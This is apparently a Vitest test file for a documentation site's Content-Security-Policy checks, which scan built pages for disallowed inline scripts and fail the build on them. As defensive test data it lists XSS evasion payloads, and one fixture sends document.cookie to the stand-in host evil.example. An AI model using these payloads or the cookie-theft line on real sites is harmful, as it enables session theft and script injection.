import { removeWhenDone } from '../../support/temp-files';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, test } from 'vitest';
import { checkBuiltPages, securityHeaders } from '../../../src/integrations/security-headers';
import { buildContentSecurityPolicy, collectVerbatimInlineCode, getSitePolicy, sha256Source } from '../../../src/lib/sharing/csp';
import { buildHeadersFile, headersForPath, parseHeadersFile } from '../../../src/lib/sharing/headers';
import { checkPage, findInlineCode, isAllowed, isExecutableScript, quickCheck, type AllowedInlineCode } from '../../../src/lib/sharing/inline-scripts';

const themeScript = '\n\tStarlightThemeProvider.updatePickers();\n';
const allowed: AllowedInlineCode = { scripts: new Set([themeScript]), styles: new Set() };
const policy = buildContentSecurityPolicy(allowed);
const head = `<!DOCTYPE html><html lang="en" dir="ltr" data-has-toc><head><meta charset="utf-8"/><meta name="viewport" content="width=device-width, initial-scale=1"/><meta http-equiv="Content-Security-Policy" content="${policy}"/><title>t</title>`;
/** A page like the build's: the policy meta first, an allowed inline script, external module scripts, JSON-LD. */
const page = (body = '', inHead = '') =>
	`${head}${inHead}<script type="application/ld+json">{"@type":"Article"}</script><script type="module" src="/_astro/page.js"></script></head><body><p>text</p><script>${themeScript}</script>${body}</body></html>`;
const refusedIn = (html: string) => checkPage(html, allowed, policy).refused.map((code) => `${code.where} ${code.text}`);

describe('the allowed inline code, from .astro sources', () => {
	test('takes is:inline scripts and styles verbatim; leaves bundled, external, data and rewritten scripts out', () => {
		const source = [
			'---',
			"const fake = '<script is:inline>fromFrontmatter()</script>';",
			'---',
			'<script is:inline>\n\tinlined();\n</script>',
			'<script type="module">moduleInline()</script>',
			'{show && <script is:inline aria-hidden="true">conditional()</script>}',
			'<script>bundledByAstro()</script>',
			'<script is:inline src="/x.js"></script>',
			'<script is:inline type="application/ld+json">{"a":1}</script>',
			'<script is:inline define:vars={{ a }}>rewritten(a)</script>',
			'<style is:inline>.a{color:red}</style>',
			'<style>.bundled{}</style>',
			'<!-- <script is:inline>commentedOut()</script> -->',
		].join('\n');
		expect(collectVerbatimInlineCode(source)).toEqual({ scripts: ['\n\tinlined();\n', 'moduleInline()', 'conditional()'], styles: ['.a{color:red}'] });
	});

	test("the site's policy hashes Starlight's inline scripts, not the built pages; the meta version has no frame-ancestors", () => {
		const site = getSitePolicy();
		const themeProvider = readFileSync(join(process.cwd(), 'node_modules/@astrojs/starlight/dist/components/ThemeProvider.astro'), 'utf8');
		const [body] = collectVerbatimInlineCode(themeProvider).scripts;
		expect(site.allowed.scripts.has(body!)).toBe(true);
		expect(site.originOf(body!)).toBe('node_modules/@astrojs/starlight/dist/components/ThemeProvider.astro');
		expect(site.meta).toContain(sha256Source(body!));
		expect(site.meta).toMatch(/^default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
		expect(site.meta).toContain("style-src 'self'; style-src-attr 'unsafe-inline'");
		const directives = new Map(site.meta.split('; ').map((directive) => [directive.split(' ')[0], directive]));
		for (const name of ['frame-ancestors', 'report-uri', 'sandbox']) expect(directives.has(name)).toBe(false);
		for (const name of ['script-src', 'style-src']) expect(directives.get(name)).not.toMatch(/'unsafe-inline'|'unsafe-eval'|\*/);
		expect(site.header("'self'")).toBe(`${site.meta}; frame-ancestors 'self'`);
		// The policy goes into an attribute and a header as it is.
		expect(site.meta).toMatch(/^[^"&<>\n]+$/);
	});
});

describe('script classification (HTML "prepare the script element")', () => {
	test.each([
		[[], true],
		[[{ name: 'type', value: '' }], true],
		[[{ name: 'type', value: 'module' }], true],
		[[{ name: 'type', value: ' Text/JavaScript ' }], true],
		[[{ name: 'type', value: 'importmap' }], true],
		[[{ name: 'type', value: 'speculationrules' }], true],
		[[{ name: 'language', value: 'javascript' }], true],
		[[{ name: 'language', value: '' }], true],
		[[{ name: 'type', value: 'application/ld+json' }], false],
		[[{ name: 'type', value: 'text/javascript; charset=utf-8' }], false],
		[[{ name: 'type', value: 'text/x-template' }], false],
		[[{ name: 'language', value: 'vbscript' }], false],
	])('%j runs: %s', (attrs, runs) => {
		expect(isExecutableScript(attrs)).toBe(runs);
	});
});

describe('inline code in a built page', () => {
	test('finds script elements only: never text in attributes, comments, <noscript>, <title> or <textarea>', () => {
		const html = page(
			'<div title="<script>inAttribute()</script>"></div><!-- <script>inComment()</script> --><noscript><script>inNoscript()</script></noscript><textarea><script>inTextarea()</script></textarea>',
			'<title><script>inTitle()</script></title>'
		);
		expect(findInlineCode(html).map((code) => code.text)).toEqual([themeScript]);
		expect(refusedIn(html)).toEqual([]);
	});

	test('refuses any other executable inline script, wherever the parser puts it', () => {
		expect(refusedIn(page('<script>alert(1)</script>'))).toEqual(['<script> alert(1)']);
		expect(refusedIn(page('<SCRIPT type="module">evil()</SCRIPT>'))).toEqual(['<script> evil()']);
		expect(refusedIn(page('<script type="importmap">{"imports":{}}</script>'))).toEqual(['<script> {"imports":{}}']);
		expect(refusedIn(page('<script href="/x.js">hrefIsNotSrc()</script>'))).toEqual(['<script> hrefIsNotSrc()']);
		expect(refusedIn(page('<svg><script>inSvg()</script></svg>'))).toEqual(['<script> inSvg()']);
		expect(refusedIn(page('<template><script>inTemplate()</script></template>'))).toEqual(['<script> inTemplate()']);
		expect(refusedIn(page('<iframe srcdoc="&lt;script&gt;inSrcdoc()&lt;/script&gt;"></iframe>'))).toEqual(['<iframe srcdoc> › <script> inSrcdoc()']);
		expect(refusedIn(page('<img src=x onerror="steal()">'))).toEqual(['<img onerror> steal()']);
		expect(refusedIn(page('<style>body{display:none}</style>'))).toEqual(['<style> body{display:none}']);
		// The policy's text with anything added is another script.
		expect(refusedIn(page(`<script>${themeScript}evil()</script>`))).toEqual([`<script> ${themeScript}evil()`]);
		// A title that breaks out of <title> (Starlight writes titles as HTML) runs nothing either.
		expect(refusedIn(page('', '<title></title><script>fromTitle()</script></title>'))).toEqual(['<script> fromTitle()']);
	});

	test('lets data blocks, external scripts and allowed texts through', () => {
		expect(
			refusedIn(page('<script type="application/ld+json">{"a":"</p>"}</script><script src="/_astro/a.js"></script><svg><script href="/b.js"></script></svg>'))
		).toEqual([]);
		expect(isAllowed({ kind: 'handler', where: '<img onload>', text: themeScript }, allowed)).toBe(false);
	});
});

describe('the scan that spares the parser', () => {
	// Every way we could think of to slip code past a scan: the scan may hand a clean page to the
	// parser, but must never pass a page in which the parser finds code the policy refuses.
	const payloads = [
		'<script>alert(1)</script>',
		'<ScRiPt>alert(1)</sCrIpT>',
		'<script\n>alert(1)</script>',
		'<script/>alert(1)</script>',
		"<script type='module'>alert(1)</script>",
		'<script type=module>alert(1)</script>',
		'<script type="module" src>alert(1)</script>',
		'<script type="application/ld+json">{}</script><script>alert(1)</script>',
		'<script type="text/x-template"><script>alert(1)</script>',
		`<script>${themeScript}</script ><script>alert(1)</script>`,
		`<script><!--<script>${themeScript}</script>alert(1)</script>-->`,
		`<script>${themeScript.replace('\n', '\r\n')}</script>`,
		`<script>${themeScript.replace('Provider', 'Provi&#100;er')}</script>`,
		`<svg><script>${themeScript}&amp;&amp;alert(1)</script></svg>`,
		'<svg><script href="/x.js">alert(1)</script></svg>',
		'<svg><style>*{}</style></svg>',
		'<math><style>a{}</style></math>',
		'<img src=x onerror=alert(1)>',
		'<img src=x\nONERROR = "alert(1)">',
		'<a href="#"onclick="alert(1)">x</a>',
		'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
		'<iframe SRCDOC="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
		'<template><script>alert(1)</script></template>',
		'<noscript><script>alert(1)</script></noscript>',
		'<div title="<script>alert(1)</script>">x</div>',
		'<!-- <script>alert(1)</script> -->',
		'<textarea><script>alert(1)</script></textarea>',
		'<style>a{}</style>',
		'<style media="print">a{}</style>',
		'<script>\0alert(1)</script>',
	];
	test.each(payloads)('%j', (payload) => {
		for (const html of [page(payload), page('', payload), `${page()}${payload}`]) {
			const parsed = findInlineCode(html).filter((code) => !isAllowed(code, allowed));
			if (quickCheck(html, allowed)) expect(parsed).toEqual([]);
			expect(checkPage(html, allowed, policy).refused).toEqual(parsed);
		}
	});

	test('proves the ordinary page clean without parsing it', () => {
		expect(quickCheck(page(), allowed)).toBe(true);
		expect(quickCheck(page('<div title="<script>x</script>"></div>'), allowed)).toBe(false);
	});
});

describe("the policy's <meta>", () => {
	const metaOf = (html: string) => checkPage(html, allowed, policy).meta;
	test('is first in <head>, with the site policy', () => {
		expect(metaOf(page())).toEqual({ state: 'ok' });
		// Not plain enough for the scan: the parser decides the same.
		expect(metaOf(page().replace('<html lang="en"', "<html lang='en'"))).toEqual({ state: 'ok' });
		expect(metaOf(page().replace(policy, 'default-src *'))).toEqual({ state: 'different', content: 'default-src *' });
		expect(metaOf(page().replace('<meta charset="utf-8"/>', '<meta charset="utf-8"/><script src="/a.js"></script>'))).toEqual({ state: 'late' });
	});

	test('says where a page without one should get it: after <meta charset>, else after <head>', () => {
		const bare = '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body></body></html>';
		expect(metaOf(bare)).toEqual({ state: 'missing', insertAt: bare.indexOf('<title>') });
		const odd = "<!DOCTYPE html><html lang='en'><head><title>x</title></head><body></body></html>";
		expect(metaOf(odd)).toEqual({ state: 'missing', insertAt: odd.indexOf('<title>') });
		// The policy in <body> does nothing: still missing.
		const inBody = bare.replace('<body>', `<body><meta http-equiv="Content-Security-Policy" content="${policy}">`);
		expect(metaOf(inBody)).toEqual({ state: 'missing', insertAt: inBody.indexOf('<title>') });
	});
});

describe('the build step', () => {
	const site = getSitePolicy();
	const themeProvider = [...site.allowed.scripts].find((text) => text.includes('window.StarlightThemeProvider'))!;
	const builtPage = (body: string) =>
		`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"/><meta http-equiv="Content-Security-Policy" content="${site.meta}"/><title>x</title><script>${themeProvider}</script></head><body>${body}</body></html>`;
	const makeDist = (pages: Record<string, string>) => {
		const dir = removeWhenDone(mkdtempSync(join(tmpdir(), 'csp-dist-')));
		for (const [file, html] of Object.entries(pages)) {
			mkdirSync(join(dir, file, '..'), { recursive: true });
			writeFileSync(join(dir, file), html);
		}
		return dir;
	};
	const runBuildDone = async (dir: string) => {
		const integration = securityHeaders();
		const logged: string[] = [];
		const log = (text: string) => void logged.push(text);
		const logger = { info: log, warn: log, error: log, debug: log };
		await integration.hooks['astro:config:done']!({ config: { base: '/', root: pathToFileURL(`${process.cwd()}/`) } } as never);
		await integration.hooks['astro:build:done']!({ dir: pathToFileURL(`${dir}/`), logger } as never);
		return logged;
	};

	test('fails the build on a page with a script the policy does not allow, naming the page and the script', async () => {
		const dir = makeDist({
			'en/index.html': builtPage('<p>fine</p>'),
			'en/cases/evil/index.html': builtPage('<p>Report</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>'),
		});
		await expect(runBuildDone(dir)).rejects.toThrow(
			/Inline code that the Content-Security-Policy does not allow[\s\S]*✖ en\/cases\/evil\/index\.html: inline script <script> "fetch\(\\"https:\/\/evil\.example\/\?c=\\" \+ document\.cookie\)"/
		);
	});

	test('passes a clean build and writes _headers', async () => {
		const dir = makeDist({ 'en/index.html': builtPage('<p>fine</p>') });
		await runBuildDone(dir);
		expect(readFileSync(join(dir, '_headers'), 'utf8')).toContain(`Content-Security-Policy: ${site.meta}; frame-ancestors 'self'`);
		expect(checkBuiltPages(dir, site)).toEqual({ problems: [], pages: 1 });
	});

	test('fails the build on a page whose layout lacks the policy <meta>', async () => {
		const bare =
			'<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title></head><body><script type="module" src="/_astro/a.js"></script></body></html>';
		const dir = makeDist({ 'en/index.html': builtPage('<p>fine</p>'), 'index.html': bare });
		await expect(runBuildDone(dir)).rejects.toThrow(
			/✖ index\.html: no Content-Security-Policy <meta>: put <ContentSecurityPolicy \/> first in the <head> of its layout/
		);
	});
});

describe('the _headers file', () => {
	test('gives pages the CSP and short caching, hashed assets long caching, embeds any frame ancestor', () => {
		const rules = parseHeadersFile(buildHeadersFile((frameAncestors) => buildContentSecurityPolicy(allowed, { frameAncestors }), '/cases-site/'));
		// As a host applies them: a header several rules set is joined, unless a rule detaches it first.
		const headersOf = (path: string) => headersForPath(rules, path);
		expect(headersOf('/cases-site/en/cases/payermax/').get('cache-control')).toBe('public, max-age=0, must-revalidate');
		expect(headersOf('/cases-site/en/cases/payermax/').get('content-security-policy')).toBe(`${policy}; frame-ancestors 'self'`);
		expect(headersOf('/cases-site/_astro/page.abc123.js').get('cache-control')).toBe('public, max-age=31536000, immutable');
		expect(headersOf('/cases-site/en/embed/payermax/').get('content-security-policy')).toBe(`${policy}; frame-ancestors *`);
		expect(headersOf('/cases-site/en/embed/payermax/').has('x-frame-options')).toBe(false);
		expect(headersOf('/cases-site/pagefind/pagefind.js').get('cache-control')).toBe('public, max-age=86400');
	});
});
